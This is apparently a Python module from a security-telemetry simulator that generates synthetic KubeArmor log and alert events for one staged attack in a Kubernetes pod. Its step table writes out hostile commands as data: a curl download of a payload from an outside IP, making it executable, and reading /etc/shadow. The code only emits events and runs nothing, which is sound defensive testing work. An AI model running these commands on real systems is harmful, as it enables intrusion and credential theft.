"""Plays one attack by way of an exec session, as KubeArmor tells it: a shell, a download, a payload that is denied."""

# ruff: noqa: E501 - a row of a table is one line

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

from otelbridge.event import Stream
from otelbridge.pb import kubearmor_pb2 as pb
from otelbridge.simulator.events import KubeArmorMessage
from otelbridge.simulator.generator import Pod, invent_pods

RUNC = "/usr/bin/runc"
SHELL = "/bin/sh"
DENIED = "Permission denied"
POLICY = "ksp-block-tmp-exec"
FIRST_PID = 4_000


class Step(NamedTuple):
    """One event of the attack."""

    process: int
    """In the order in which they begin; the first is the shell."""
    parent: int
    operation: str
    executable: str
    resource: str
    data: str
    result: str = "Passed"


STEPS = (
    Step(1, 0, "Process", SHELL, "/bin/sh", "syscall=SYS_EXECVE"),
    Step(2, 1, "Process", "/usr/bin/id", "/usr/bin/id", "syscall=SYS_EXECVE"),
    Step(3, 1, "Process", "/usr/bin/curl", "/usr/bin/curl -sSo /run/payload http://203.0.113.9/p", "syscall=SYS_EXECVE"),
    Step(3, 1, "Network", "/usr/bin/curl", "remoteip=203.0.113.9 port=80 protocol=TCP", "kprobe=tcp_connect domain=AF_INET"),
    Step(3, 1, "File", "/usr/bin/curl", "/run/payload", "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC"),
    Step(4, 1, "Process", "/bin/chmod", "/bin/chmod +x /run/payload", "syscall=SYS_EXECVE"),
    Step(5, 1, "Process", "/run/payload", "/run/payload", "lsm=SECURITY_BPRM_CHECK", DENIED),
    Step(6, 1, "Process", "/bin/cat", "/bin/cat /etc/shadow", "syscall=SYS_EXECVE"),
    Step(6, 1, "File", "/bin/cat", "/etc/shadow", "lsm=FILE_OPEN", DENIED),
)  # fmt: skip


def attack(seed: int, streams: tuple[Stream, ...]) -> Iterator[tuple[Stream, KubeArmorMessage]]:
    """The events of the given streams, in their order; what is denied is an alert. Their times are not set."""
    pod = invent_pods(seed)[0]
    first_pid = FIRST_PID + seed % 1_000_000
    session = seed & 0xFFFF or 1
    for step in STEPS:
        stream = Stream.ALERTS if step.result == DENIED else Stream.LOGS
        if stream in streams:
            yield stream, _event(step, pod, first_pid, session)


def _event(step: Step, pod: Pod, first_pid: int, session: int) -> pb.Alert | pb.Log:
    event: pb.Alert | pb.Log
    if step.result == DENIED:
        event = pb.Alert(Type="MatchedPolicy", PolicyName=POLICY, Severity="8", Action="Block", Enforcer="BPFLSM")
    else:
        event = pb.Log(Type="ContainerLog")
    event.ClusterName, event.HostName, event.NodeID = "default", pod.node.name, pod.node.node_id
    event.NamespaceName, event.PodName, event.Labels = pod.workload.namespace, pod.name, pod.labels
    event.ContainerID, event.ContainerName = pod.container_id, pod.workload.container
    event.ContainerImage = pod.image
    event.Owner.Ref, event.Owner.Name, event.Owner.Namespace = pod.workload.kind, pod.workload.name, event.NamespaceName
    event.HostPID, event.PID = first_pid + step.process, 100 + step.process
    event.HostPPID, event.PPID = first_pid + step.parent, 100 + step.parent if step.parent else first_pid
    event.ProcessName = step.executable
    event.ParentProcessName = SHELL if step.parent else RUNC
    is_exec = step.operation == "Process"
    event.Source = event.ParentProcessName if is_exec else step.executable
    event.Operation, event.Resource, event.Data, event.Result = step.operation, step.resource, step.data, step.result
    # The shell has the session's own id; what it forks keeps the low half of it.
    event.ExecEvent.ExecID = str((event.HostPID if step.parent else 77) << 32 | session)
    task = event.ParentProcessName if is_exec else step.executable
    event.ExecEvent.ExecutableName = task.rpartition("/")[2]
    return event
